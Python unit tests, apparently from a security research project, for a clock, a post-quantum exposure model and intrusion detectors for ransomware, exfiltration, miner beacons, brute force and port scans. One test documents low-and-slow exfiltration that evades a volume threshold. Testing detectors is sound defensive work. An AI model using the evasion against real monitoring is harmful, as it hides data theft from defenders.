        with pytest.raises(ValueError):
            SimClock().advance(-0.1)

    def test_advance_to_absolute(self):
        c = SimClock()
        c.advance_to(7.0)
        assert c.now() == 7.0

    def test_advance_to_past_rejected(self):
        c = SimClock(5.0)
        with pytest.raises(ValueError):
            c.advance_to(4.0)

    def test_advance_to_same_time_ok(self):
        c = SimClock(5.0)
        assert c.advance_to(5.0) == 5.0

    def test_isoformat_epoch(self):
        c = SimClock()
        assert c.isoformat().startswith("2024-01-01T00:00:00")

    def test_isoformat_advances(self):
        c = SimClock()
        c.advance(3661.0)  # 1h 1m 1s
        assert c.isoformat().startswith("2024-01-01T01:01:01")


class TestWallClock:
    def test_monotone(self):
        w = WallClock()
        t1 = w.now()
        t2 = w.now()
        assert t2 >= t1 >= 0.0
