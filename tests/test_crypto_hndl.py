"""Tests for the harvest-now-decrypt-later exposure model."""

import pytest

from repro.crypto.hndl import HNDLModel, TrafficRecord


def make_corpus():
    m = HNDLModel()
    # Classical-signed research data with a 10-year secrecy lifetime.
    m.add(TrafficRecord(2024, 10, "hmac-sha256", size_bytes=1000))
    # Classical-signed ephemeral heartbeat — stale within a year.
    m.add(TrafficRecord(2024, 1, "hmac-sha256", size_bytes=10))
    # PQ-signed record: never exposed.
    m.add(TrafficRecord(2024, 50, "merkle", size_bytes=500))
    return m


class TestExposure:
    def test_empty_model(self):
        assert HNDLModel().exposed_fraction(2030) == 0.0

    def test_crqc_before_expiry_exposes(self):
        m = make_corpus()
        # CRQC in 2030: 10-year record (sensitive until 2034) exposed,
        # 1-year record (stale since 2025) not, merkle never.
        assert m.exposed_fraction(2030) == pytest.approx(1 / 3)

    def test_crqc_late_exposes_nothing(self):
        assert make_corpus().exposed_fraction(2100) == 0.0

    def test_crqc_immediate_exposes_all_classical(self):
        assert make_corpus().exposed_fraction(2024) == pytest.approx(2 / 3)

    def test_exposed_bytes(self):
        assert make_corpus().exposed_bytes(2030) == 1000

    def test_sweep_monotone_nonincreasing(self):
        m = make_corpus()
        years = [2024, 2026, 2030, 2040, 2100]
        sweep = m.sweep(years)
        values = [sweep[y] for y in years]
        assert values == sorted(values, reverse=True)

    def test_breakdown_by_scheme(self):
        br = make_corpus().breakdown_by_scheme(2024)
        assert br["hmac-sha256"] == 1.0
        assert br["merkle"] == 0.0

    def test_migration_benefit_positive(self):
        m = HNDLModel()
        for year in (2024, 2025, 2026, 2027):
            m.add(TrafficRecord(year, 20, "hmac-sha256"))
        # Migrating in 2025 saves the 2025-2027 records from a 2030 CRQC.
        benefit = m.migration_benefit(migrate_year=2025, crqc_year=2030)
        assert benefit == pytest.approx(3 / 4)

    def test_migration_benefit_zero_when_too_late(self):
        m = HNDLModel()
        m.add(TrafficRecord(2024, 2, "hmac-sha256"))
        assert m.migration_benefit(migrate_year=2050, crqc_year=2025) == 0.0
