"""Unit tests for the anomaly detector suite."""

import pytest

from repro.crypto.chacha20 import chacha20_encrypt
from repro.monitor.anomaly import (
    BeaconDetector,
    BruteForceDetector,
    CusumEgressDetector,
    EgressVolumeDetector,
    EntropyBurstDetector,
    NewSourceDetector,
    ScanDetector,
)
from repro.taxonomy.oscrp import Avenue

ENC = chacha20_encrypt(b"\x11" * 32, b"\x00" * 12, b"notebook content " * 64)
TEXT = b"import numpy as np\nresult = np.mean(data)\n" * 20


class TestEntropyBurst:
    def test_encrypted_burst_fires(self):
        det = EntropyBurstDetector(min_files=3, window=60)
        notices = [det.observe_write(float(i), f"home/f{i}.ipynb", ENC) for i in range(3)]
        assert notices[-1] is not None
        assert notices[-1].name == "RANSOMWARE_ENTROPY_BURST"
        assert notices[-1].avenue == Avenue.RANSOMWARE

    def test_plaintext_burst_ignored(self):
        det = EntropyBurstDetector(min_files=3)
        assert all(det.observe_write(float(i), f"f{i}", TEXT) is None for i in range(10))

    def test_slow_writes_age_out(self):
        det = EntropyBurstDetector(min_files=3, window=10)
        assert det.observe_write(0.0, "a", ENC) is None
        assert det.observe_write(20.0, "b", ENC) is None
        assert det.observe_write(40.0, "c", ENC) is None  # only 1 in window each time

    def test_same_file_rewrites_do_not_fire(self):
        det = EntropyBurstDetector(min_files=3, window=60)
        assert all(det.observe_write(float(i), "same.bin", ENC) is None for i in range(10))

    def test_small_files_ignored(self):
        det = EntropyBurstDetector(min_files=2, min_size=64)
        short = ENC[:32]
        assert det.observe_write(0, "a", short) is None
        assert det.observe_write(1, "b", short) is None

    def test_dedup_within_interval(self):
        det = EntropyBurstDetector(min_files=2, window=600, renotify_interval=300)
        det.observe_write(0, "a", ENC)
        det.observe_write(1, "b", ENC)
        det.observe_write(2, "c", ENC)
        det.observe_write(3, "d", ENC)
        assert len(det.notices) == 1
        det.observe_write(400, "e", ENC)
        assert len(det.notices) == 2


class TestEgressVolume:
    def test_bulk_transfer_fires(self):
        det = EgressVolumeDetector(window=60, threshold_bytes=10_000)
        notice = None
        for i in range(20):
            notice = det.observe_bytes(float(i), "10.0.0.1", "203.0.113.5", 1000) or notice
        assert notice is not None and notice.name == "EXFIL_VOLUME"

    def test_internal_transfers_ignored(self):
        det = EgressVolumeDetector(threshold_bytes=100)
        assert det.observe_bytes(0, "10.0.0.1", "10.0.0.2", 10**9) is None

    def test_inbound_ignored(self):
        det = EgressVolumeDetector(threshold_bytes=100)
        assert det.observe_bytes(0, "203.0.113.5", "10.0.0.1", 10**9) is None

    def test_low_and_slow_evades_threshold(self):
        """The evasion the paper warns about: stay under the window budget."""
        det = EgressVolumeDetector(window=60, threshold_bytes=60_000)
        # 500 B/s for an hour = 1.8 MB total, never >30k per minute window.
        for t in range(3600):
            assert det.observe_bytes(float(t), "10.0.0.1", "203.0.113.5", 500) is None


class TestCusumEgress:
    def test_catches_low_and_slow(self):
        """CUSUM accumulates what the threshold detector forgets."""
        det = CusumEgressDetector(bucket_seconds=10, baseline_bytes=100,
                                  slack_bytes=100, decision_threshold=50_000)
        fired = None
        for t in range(3600):
            fired = det.observe_bytes(float(t), "10.0.0.1", "203.0.113.5", 500) or fired
        assert fired is not None
        assert fired.name == "EXFIL_CUSUM_DRIFT"

    def test_benign_baseline_quiet(self):
        det = CusumEgressDetector(bucket_seconds=10, baseline_bytes=5000,
                                  slack_bytes=5000, decision_threshold=50_000)
        for t in range(0, 3600, 10):
            assert det.observe_bytes(float(t), "10.0.0.1", "203.0.113.5", 300) is None

    def test_idle_buckets_decay(self):
        det = CusumEgressDetector(bucket_seconds=1, baseline_bytes=100,
                                  slack_bytes=100, decision_threshold=10_000)
        # One big burst then silence: S decays by (baseline+slack) per idle bucket.
        det.observe_bytes(0.0, "10.0.0.1", "203.0.113.5", 5000)
        det.observe_bytes(100.0, "10.0.0.1", "203.0.113.5", 1)  # closes buckets
        assert det._cusum[("10.0.0.1", "203.0.113.5")] == 0.0


class TestBeacon:
    def test_regular_beacons_fire(self):
        det = BeaconDetector(min_events=8, cv_threshold=0.3)
        notice = None
        for i in range(20):
            notice = det.observe_send(30.0 * i, "10.0.0.1", "198.51.100.9", 120) or notice
        assert notice is not None and notice.name == "MINER_BEACON"
        assert notice.avenue == Avenue.CRYPTOMINING

    def test_bursty_traffic_quiet(self):
        import random

        rng = random.Random(7)
        det = BeaconDetector(min_events=8, cv_threshold=0.25)
        t = 0.0
        for _ in range(50):
            t += rng.expovariate(1 / 30.0)  # CV of exponential = 1
            assert det.observe_send(t, "10.0.0.1", "198.51.100.9", 120) is None

    def test_large_payloads_ignored(self):
        det = BeaconDetector(min_events=4, max_payload=1000)
        for i in range(20):
            assert det.observe_send(10.0 * i, "10.0.0.1", "198.51.100.9", 50_000) is None

    def test_internal_destinations_ignored(self):
        det = BeaconDetector(min_events=4)
        for i in range(20):
            assert det.observe_send(10.0 * i, "10.0.0.1", "10.0.0.2", 120) is None


class TestBruteForce:
    def test_failure_burst_fires(self):
        det = BruteForceDetector(window=120, max_failures=5)
        notice = None
        for i in range(6):
            notice = det.observe_auth(float(i), "6.6.6.6", ok=False) or notice
        assert notice is not None and notice.name == "AUTH_BRUTEFORCE"

    def test_successes_ignored(self):
        det = BruteForceDetector(max_failures=2)
        for i in range(10):
            assert det.observe_auth(float(i), "1.1.1.1", ok=True) is None

    def test_failures_age_out(self):
        det = BruteForceDetector(window=10, max_failures=3)
        assert det.observe_auth(0.0, "2.2.2.2", False) is None
        assert det.observe_auth(100.0, "2.2.2.2", False) is None
        assert det.observe_auth(200.0, "2.2.2.2", False) is None

    def test_per_source_isolation(self):
        det = BruteForceDetector(window=60, max_failures=3)
        det.observe_auth(0, "3.3.3.3", False)
        det.observe_auth(1, "3.3.3.3", False)
        assert det.observe_auth(2, "4.4.4.4", False) is None


class TestScan:
    def test_fanout_fires(self):
        det = ScanDetector(window=60, max_targets=5)
        notice = None
        for port in range(8880, 8890):
            notice = det.observe_probe(1.0, "6.6.6.6", "10.0.0.1", port) or notice
        assert notice is not None and notice.name == "PORT_SCAN"

    def test_repeat_probes_one_target_quiet(self):
        det = ScanDetector(max_targets=5)
        for i in range(50):
            assert det.observe_probe(float(i), "6.6.6.6", "10.0.0.1", 8888) is None


class TestNewSource:
    def test_learning_period_silent(self):
        det = NewSourceDetector(learning_until=100)
        assert det.observe_auth(50, "10.0.0.2", True) is None

    def test_new_source_after_learning_fires(self):
        det = NewSourceDetector(learning_until=100)
        det.observe_auth(50, "10.0.0.2", True)
        notice = det.observe_auth(200, "203.0.113.77", True)
        assert notice is not None and notice.name == "NEW_SOURCE_LOGIN"

    def test_known_source_quiet(self):
        det = NewSourceDetector(learning_until=100)
        det.observe_auth(50, "10.0.0.2", True)
        assert det.observe_auth(200, "10.0.0.2", True) is None

    def test_failed_auth_not_learned(self):
        det = NewSourceDetector(learning_until=100)
        det.observe_auth(50, "7.7.7.7", False)
        assert det.observe_auth(200, "7.7.7.7", True) is not None
