"""Regression: every benign cell template must execute cleanly.

The templates are the benign baseline for every detection experiment —
a template that errors in a real kernel (e.g. hashing a ``str``) skews
false-positive accounting, so each one is executed in a live
:class:`KernelRuntime` against a seeded home directory."""

import pytest

from repro.kernel import KernelRuntime, KernelWorld
from repro.messaging import Session
from repro.vfs import VirtualFS
from repro.workload.scientist import BENIGN_CELL_TEMPLATES


def _runtime() -> KernelRuntime:
    fs = VirtualFS()
    rows = "\n".join(f"{j},{j % 7},{j % 3}" for j in range(50))
    fs.write("home/data/measurements_0.csv", ("a,b,c\n" + rows).encode())
    return KernelRuntime(KernelWorld(fs=fs))


@pytest.mark.parametrize("index", range(len(BENIGN_CELL_TEMPLATES)),
                         ids=lambda i: f"template{i}")
def test_every_benign_template_executes_ok(index):
    runtime = _runtime()
    client = Session(b"", username="scientist", check_replay=False)
    code = BENIGN_CELL_TEMPLATES[index].format(i=42)
    messages = runtime.handle(client.execute_request(code))
    replies = [m for m in messages if m.msg_type == "execute_reply"]
    assert replies, f"no execute_reply for template {index}"
    content = replies[-1].content
    assert content["status"] == "ok", (
        f"template {index} failed: {content.get('ename')}: {content.get('evalue')}\n{code}")


def test_templates_vary_with_parameter():
    runtime = _runtime()
    client = Session(b"", username="scientist", check_replay=False)
    a = BENIGN_CELL_TEMPLATES[0].format(i=10)
    b = BENIGN_CELL_TEMPLATES[0].format(i=300)
    assert a != b
    for code in (a, b):
        reply = [m for m in runtime.handle(client.execute_request(code))
                 if m.msg_type == "execute_reply"][-1]
        assert reply.content["status"] == "ok"
